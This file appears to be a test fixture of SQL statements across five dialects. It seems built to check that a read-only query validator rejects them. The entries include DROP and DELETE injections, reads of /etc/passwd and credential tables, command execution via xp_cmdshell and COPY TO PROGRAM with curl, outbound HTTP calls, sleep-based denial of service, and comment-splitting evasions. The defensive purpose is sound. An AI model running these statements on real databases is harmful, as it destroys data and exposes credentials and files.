-- mysql, postgres, tsql, oracle, sqlite
SELECT 1; DROP TABLE employees

-- mysql, postgres, tsql, sqlite
SELECT 1;

DELETE FROM sc_user

-- mysql, postgres, tsql, oracle, sqlite
DROP TABLE employees

-- mysql, postgres, tsql, oracle, sqlite
UPDATE employees SET salary = 1

-- mysql, postgres, tsql, oracle, sqlite
INSERT INTO employees (employee_id) SELECT 1

-- mysql, postgres, tsql, oracle, sqlite
TRUNCATE TABLE employees

-- mysql, postgres, tsql, oracle, sqlite
CREATE TABLE copy AS SELECT * FROM employees

-- mysql, postgres, tsql, oracle, sqlite
GRANT ALL ON employees TO PUBLIC

-- mysql
SELECT LOAD_FILE('/etc/passwd')

-- mysql
SELECT * FROM sc_user INTO OUTFILE '/tmp/users.csv'

-- mysql
SELECT phone INTO DUMPFILE '/tmp/x' FROM sc_user

-- mysql
SELECT SLEEP(10) FROM sc_user

-- mysql
SELECT BENCHMARK(100000000, MD5('x'))

-- mysql
SELECT id FROM sc_user /*!50000 UNION SELECT LOAD_FILE('/etc/passwd') */

-- mysql
SELECT id FROM sc_user /*M! INTO OUTFILE '/tmp/x' */

-- mysql
SELECT id FROM sc_user WHERE id = 1 --1; DROP TABLE sc_user

-- mysql
SELECT GET_LOCK('x', 100)

-- mysql
SELECT @@datadir, @@secure_file_priv

-- mysql
SELECT @a := LOAD_FILE('/etc/passwd')

-- mysql
SELECT * FROM mysql.user

-- mysql
SELECT table_name FROM information_schema.tables

-- mysql
LOAD DATA INFILE '/etc/passwd' INTO TABLE sc_user

-- mysql
SELECT id FROM sc_user FOR UPDATE

-- mysql
SELECT id FROM sc_user LOCK IN SHARE MODE

-- mysql
HANDLER sc_user OPEN

-- mysql
SELECT EXTRACTVALUE(1, CONCAT(0x5c, VERSION()))

-- mysql
SELECT sys_exec('id')

-- mysql
SEL/**/ECT id FROM sc_user

-- mysql
SELECT id FROM sc_user WHERE id = 1 UNI/**/ON SELECT 1

-- mysql
SELECT /*+ SET_VAR(sql_safe_updates = 0) */ id FROM sc_user

-- postgres
SELECT pg_read_file('/etc/passwd')

-- postgres
SELECT pg_ls_dir('/')

-- postgres
SELECT pg_sleep(10)

-- postgres
SELECT lo_import('/etc/passwd')

-- postgres
COPY clinic.patient TO '/tmp/patients.csv'

-- postgres
COPY (SELECT 1) TO PROGRAM 'curl http://example.com'

-- postgres
WITH gone AS (DELETE FROM clinic.patient RETURNING *) SELECT * FROM gone

-- postgres
WITH new AS (INSERT INTO clinic.doctor (doctor_id) VALUES (1) RETURNING doctor_id) SELECT doctor_id FROM new

-- postgres
SELECT full_name INTO stolen FROM clinic.patient

-- postgres
SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)

-- postgres
SELECT query_to_xml('DELETE FROM clinic.patient', true, true, '')

-- postgres
SELECT set_config('log_statement', 'none', false)

-- postgres
SELECT nextval('clinic.patient_id_seq')

-- postgres
SELECT pg_terminate_backend(pid) FROM pg_stat_activity

-- postgres
SELECT usename, passwd FROM pg_shadow

-- postgres
SELECT relname FROM pg_catalog.pg_class

-- postgres
SELECT full_name FROM clinic.patient FOR SHARE

-- postgres
DO $$ BEGIN DELETE FROM clinic.patient; END $$

-- postgres
EXPLAIN ANALYZE DELETE FROM clinic.patient

-- postgres
SELECT 1 /* /* */ ; DROP TABLE clinic.patient -- */

-- postgres
SELECT full_name FROM clinic.patient \g |cat

-- postgres
SET ROLE postgres

-- postgres
SELECT pg_advisory_lock(1)

-- postgres
SELECT currval('x'), txid_current(), version()

-- postgres
SELECT * FROM clinic.patient WHERE full_name = (SELECT pg_read_binary_file('/etc/passwd')::text)

-- tsql
EXEC xp_cmdshell 'dir'

-- tsql
SELECT Name FROM dbo.Supplier EXEC xp_cmdshell 'dir'

-- tsql
SELECT Name FROM dbo.Supplier SHUTDOWN

-- tsql
SELECT Name FROM dbo.Supplier WAITFOR DELAY '0:0:10'

-- tsql
SELECT 1 DROP TABLE dbo.Supplier

-- tsql
SELECT * FROM OPENROWSET(BULK 'C:\secret.txt', SINGLE_CLOB) AS x

-- tsql
SELECT * FROM OPENQUERY(remote, 'SELECT 1')

-- tsql
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t

-- tsql
SELECT Name INTO dbo.Stolen FROM dbo.Supplier

-- tsql
SELECT Name FROM dbo.Supplier WITH (TABLOCKX, HOLDLOCK)

-- tsql
SELECT NEXT VALUE FOR dbo.seq

-- tsql
SELECT name FROM sys.sql_logins

-- tsql
SELECT name FROM master..sysdatabases

-- tsql
SELECT * FROM remote.shop.dbo.Supplier

-- tsql
DECLARE @x varchar(100) = 'DROP TABLE x'; EXEC (@x)

-- tsql
SELECT fn_xe_file_target_read_file('x', NULL, NULL, NULL)

-- tsql
BULK INSERT dbo.Supplier FROM 'C:\x.csv'

-- oracle
SELECT UTL_HTTP.REQUEST('http://example.com') FROM dual

-- oracle
SELECT UTL_INADDR.GET_HOST_ADDRESS('example.com') FROM dual

-- oracle
SELECT UTL_INADDR.GET_HOST_NAME FROM dual

-- oracle
SELECT DBMS_PIPE.RECEIVE_MESSAGE('x', 10) FROM dual

-- oracle
SELECT HTTPURITYPE('http://example.com').GETCLOB() FROM dual

-- oracle
SELECT BFILENAME('DIR', 'passwd') FROM dual

-- oracle
SELECT emp_name FROM employees@remote

-- oracle
SELECT emp_name FROM employees FOR UPDATE OF salary

-- oracle
SELECT emp_seq.NEXTVAL FROM dual

-- oracle
SELECT username FROM dba_users

-- oracle
SELECT * FROM v$session

-- oracle
SELECT SYS.DBMS_LOCK.SLEEP(5) FROM dual

-- oracle
SELECT DBMS_XMLGEN.GETXML('SELECT 1 FROM dual') FROM dual

-- oracle
BEGIN DELETE FROM employees; END;

-- oracle
WITH FUNCTION f RETURN NUMBER IS BEGIN DELETE FROM employees; RETURN 1; END; SELECT f FROM dual

-- sqlite
SELECT load_extension('/tmp/x.so')

-- sqlite
SELECT readfile('/etc/passwd')

-- sqlite
SELECT writefile('/tmp/x', 'y')

-- sqlite
ATTACH DATABASE '/tmp/x.db' AS x

-- sqlite
PRAGMA writable_schema = 1

-- sqlite
SELECT * FROM pragma_table_info('book')

-- sqlite
SELECT sql FROM sqlite_master

-- sqlite
VACUUM INTO '/tmp/copy.db'

-- sqlite
SELECT edit(title) FROM book

-- sqlite
SELECT randomblob(1000000000)

-- mysql, postgres, tsql, oracle, sqlite
SELECT * FROM read_csv('/etc/passwd')

-- mysql, postgres, tsql, oracle, sqlite
SELECT * FROM '/etc/passwd'

-- mysql, postgres, tsql, oracle, sqlite
SELECT * FROM read_text('/etc/passwd')

-- mysql, postgres, tsql, oracle, sqlite
SELECT 1 {# ; DROP TABLE employees #}

-- postgres
SELECT 1 OPERATOR(public.+) 2

-- postgres
SELECT "pg_sleep"(5)

-- postgres
SELECT pg_catalog.pg_sleep(5)

-- postgres
TABLE pg_authid

-- postgres
VALUES ((SELECT pg_sleep(1)))

-- postgres, tsql
WITH x AS (SELECT 1 AS y) DELETE FROM clinic.patient

-- postgres, tsql, oracle, sqlite
SELECT 'a\'; DROP TABLE employees; --'

-- mysql, tsql, oracle, sqlite
SELECT $$ ; DROP TABLE employees; -- $$

-- mysql
SELECT {fn SLEEP(5)}

-- oracle
SELECT a FROM XMLTABLE('fn:collection("oradb:/HR/EMPLOYEES")' COLUMNS a VARCHAR2(9) PATH 'a')

-- sqlite
SELECT title AS [a]]; DROP TABLE book; --] FROM book

-- mysql, postgres, tsql, oracle, sqlite
SELECT 1 /* ' */ ; DROP TABLE employees /* ' */

-- mysql, postgres, tsql, oracle, sqlite
SELECT 1 -- '
; DROP TABLE employees -- '
